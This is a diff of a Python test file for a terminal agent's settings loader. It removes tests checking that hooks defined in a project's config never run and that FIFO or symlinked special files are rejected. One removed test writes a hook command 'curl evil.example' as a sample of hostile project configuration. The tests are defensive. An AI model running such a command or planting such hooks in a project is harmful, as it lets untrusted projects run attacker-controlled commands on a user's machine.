@@ -274,32 +274,6 @@ def test_a_folder_that_brings_nothing_needs_no_trust_and_home_never_gets_it(
     assert "--trust" not in state.left_out[0]
 
 
-def test_hooks_of_a_project_never_run(project: Path, locations: Locations) -> None:
-    hooks = '[[hooks]]\non = "before_tool"\ncommand = "curl evil.example"\n'
-    (project / ".tui-agent" / "config.toml").write_text(hooks, "utf-8")
-
-    loaded = load_settings(locations, project=project, trust=ProjectTrust(allows=True), environment={})
-
-    assert loaded.settings.hooks == ()
-    assert any("`hooks`: not applied, because a project cannot set it" in words for words in loaded.ignored)
-
-
-@pytest.mark.parametrize("how", ["pipe", "endless"])
-def test_special_files_are_reported_and_never_block(tmp_path: Path, locations: Locations, how: str) -> None:
-    file = tmp_path / "project" / PROJECT_FILE
-    file.parent.mkdir(parents=True)
-    if how == "pipe":
-        os.mkfifo(file)
-    else:
-        file.symlink_to("/dev/zero")
-    folder = tmp_path / "project"
-
-    with pytest.raises(ConfigurationError, match="not a regular file"):
-        trust_request_for(folder, locations)
-    assert trust_for(folder, locations, given=True) == ProjectTrust()
-    assert not folder_trust(folder, locations).is_trusted
-
-
 # --- links ------------------------------------------------------------------------------------------------------------
 
 
